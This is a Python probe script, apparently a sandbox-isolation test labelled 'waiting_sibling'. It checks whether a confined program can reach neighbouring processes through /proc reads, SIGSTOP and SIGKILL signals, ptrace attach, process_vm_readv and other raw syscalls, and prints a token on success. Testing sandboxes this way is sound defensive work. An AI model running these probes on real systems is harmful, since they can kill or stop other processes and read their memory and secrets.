# attack: waiting_sibling
# class: proc
# mode: stdin
# oracle: echo
# what: reach the fork that waits for the next program: signals, tracing, /proc, scheduling
import json
import sys

TOK = sys.stdin.readline().strip()
INFO = json.loads(sys.stdin.readline())
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
x86 = platform.machine() == "x86_64"
me = os.getpid()
space = ctypes.create_string_buffer(64)


def reached(pid):
    here = f"/proc/{pid}"
    for path in ("mem", "maps", "environ", "stat", "syscall", "fd", "root", "cwd"):
        try:
            os.close(os.open(f"{here}/{path}", os.O_RDONLY))
            return True
        except OSError:
            pass
    for attempt in (
        lambda: os.kill(pid, 19),
        lambda: os.readlink(f"{here}/fd/3"),
        lambda: os.chdir(f"{here}/cwd"),
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda: os.sched_setaffinity(pid, {0}),
        lambda: os.setpgid(pid, pid),
        lambda: os.pidfd_open(pid),
        lambda: os.waitid(os.P_PID, pid, os.WEXITED | os.WNOHANG),
    ):
        try:
            attempt()
            return True
        except OSError:
            pass
    for number, arguments in (
        (234, (pid, pid, 9)),
        (200, (pid, 9)),
        (129, (pid, 9, 0)),
        (297, (pid, pid, 9, 0)),
        (101, (16, pid, 0, 0)),
        (101, (0x4206, pid, 0, 0)),
        (310, (pid, space, 0, space, 0, 0)),
        (302, (pid, 0, 0, space)),
        (312, (me, pid, 0, 0, 0)),
        (251, (1, pid, 0)),
        (256, (pid, 0, 0, 0)),
    ):
        if x86 and libc.syscall(number, *arguments) == 0:
            return True
    return False


near = {*range(1, 20), *range(me - 40, me + 40)} - {me}
if any(reached(pid) for pid in sorted(near) if pid > 0):
    print(TOK)
